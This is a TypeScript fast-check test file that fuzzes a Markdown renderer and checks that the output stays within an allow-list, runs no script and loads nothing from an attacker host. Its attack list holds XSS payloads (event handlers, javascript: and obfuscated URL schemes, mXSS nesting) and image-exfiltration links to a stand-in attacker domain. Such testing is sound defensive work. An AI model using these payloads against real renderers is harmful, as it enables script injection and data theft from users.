/**
 * Reliability X4: property tests of the Markdown renderer with fast-check. Whatever a chat message or a
 * model answer contains, the rendered DOM holds only allow-listed elements and attributes, links only to
 * http(s)/mailto, nothing runs (`window.__xss` stays unset) and nothing is fetched from the attacker's host.
 * Runs in real Chromium, with every rendering attached to the document so a live image or handler would
 * actually fire.
 */
import { expect } from '@open-wc/testing';
import fc from 'fast-check';
import { renderMarkdown } from '../src/index.js';

const ALLOWED_ELEMENTS = new Set([
  'A',
  'BLOCKQUOTE',
  'BR',
  'CODE',
  'DEL',
  'DIV',
  'EM',
  'H1',
  'H2',
  'H3',
  'H4',
  'H5',
  'H6',
  'HR',
  'LI',
  'OL',
  'P',
  'PRE',
  'SPAN',
  'STRONG',
  'TABLE',
  'TBODY',
  'TD',
  'TH',
  'THEAD',
  'TR',
  'UL',
]);
const ALLOWED_ATTRIBUTES = new Set([
  'href',
  'title',
  'rel',
  'target',
  'class',
  'data-lang',
  'align',
  'start',
]);
const SAFE_HREF = /^(?:https?:|mailto:)/i;

/** Pieces of known attack classes (HTML injection, handlers, URL schemes, entity and case tricks, image exfiltration). */
const ATTACK_PIECES = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<svg onload="window.__xss=1"></svg>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<a href="javascript:window.__xss=1">x</a>',
  '<details open ontoggle="window.__xss=1">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
  '<form><button formaction="javascript:window.__xss=1">x</button></form>',
  '[click](javascript:window.__xss=1)',
  '[click](JaVaScRiPt:window.__xss=1)',
  '[click](&#106;avascript:window.__xss=1)',
  '[click](java&#x09;script:window.__xss=1)',
  '[click]( javascript:window.__xss=1 )',
  '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[ok](https://example.test/a "t")',
  '![x](https://attacker.test/p.png?q=secret)',
  '![x](//attacker.test/p.png)',
  '<https://ok.example.test>',
  'https://bare.example.test/path',
  '<img src="https://attacker.test/raw.png">',
  '`code <b>x</b>`',
  '```js\nwindow.__xss=1 <script>\n```',
  '~~~\n<img src=x onerror=window.__xss=1>\n~~~',
  '| a | b |\n| - | - |\n| <img src=x onerror=window.__xss=1> | [x](javascript:1) |',
  '> quote <svg/onload=window.__xss=1>',
  '- item\n  - nested <b onclick=window.__xss=1>',
  '1. one\n2. two',
  '# heading <u>',
  '**bold _em_**',
  '\\<script\\>',
  '&lt;script&gt;',
  '"\'><img src=x onerror=window.__xss=1>',
];
const MARKDOWN_PUNCTUATION = [
  '*',
  '_',
  '`',
  '~',
  '[',
  ']',
  '(',
  ')',
  '<',
  '>',
  '!',
  '|',
  '#',
  '-',
  '\\',
  '\n',
  '\n\n',
  '  ',
  '"',
];

const markdownish = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...ATTACK_PIECES) },
      { weight: 3, arbitrary: fc.constantFrom(...MARKDOWN_PUNCTUATION) },
      { weight: 2, arbitrary: fc.string({ maxLength: 12 }) },
      { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 6 }) },
    ),
    { maxLength: 24 },
  )
  .map((parts) => parts.join(''));

/** Every way the rendered tree could break the allow-list, as readable strings (empty when clean). */
function violations(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const el of [root, ...root.querySelectorAll('*')]) {
    if (!ALLOWED_ELEMENTS.has(el.tagName)) found.push(`element <${el.tagName.toLowerCase()}>`);
    for (const attr of el.attributes) {
      if (!ALLOWED_ATTRIBUTES.has(attr.name))
        found.push(`attribute ${attr.name} on <${el.tagName.toLowerCase()}>`);
      if (attr.name === 'href' && !SAFE_HREF.test(attr.value.trim())) found.push(`href ${attr.value}`);
    }
  }
  return found;
}

describe('renderMarkdown under fuzzing (reliability X4)', function () {
  this.timeout(120_000);
  const w = window as unknown as { __xss?: unknown };
  beforeEach(() => delete w.__xss);

  it('the known attack vectors render inert, one by one', async () => {
    const host = document.createElement('div');
    document.body.append(host);
    try {
      for (const piece of ATTACK_PIECES) {
        const rendered = renderMarkdown(piece);
        host.replaceChildren(rendered);
        expect(violations(rendered), piece).to.deep.equal([]);
      }
      await new Promise((resolve) => setTimeout(resolve, 50)); // let any handler or load fire
      expect(w.__xss, 'a script ran').to.equal(undefined);
    } finally {
      host.remove();
    }
  });

  it('10,000 generated messages: only allow-listed elements and attributes, safe links, nothing runs or loads', async () => {
    const host = document.createElement('div');
    document.body.append(host);
    try {
      fc.assert(
        fc.property(markdownish, (source) => {
          const rendered = renderMarkdown(source);
          host.replaceChildren(rendered);
          const found = violations(rendered);
          if (found.length) throw new Error(`${JSON.stringify(source)} → ${found.join(', ')}`);
        }),
        { numRuns: 10_000 }, // a failure prints its seed and path, so it can be replayed
      );
      await new Promise((resolve) => setTimeout(resolve, 100));
      expect(w.__xss, 'a script ran').to.equal(undefined);
      const fetched = performance
        .getEntriesByType('resource')
        .filter((entry) => entry.name.includes('attacker.test'));
      expect(fetched.map((entry) => entry.name)).to.deep.equal([]);
    } finally {
      host.remove();
    }
  });
});
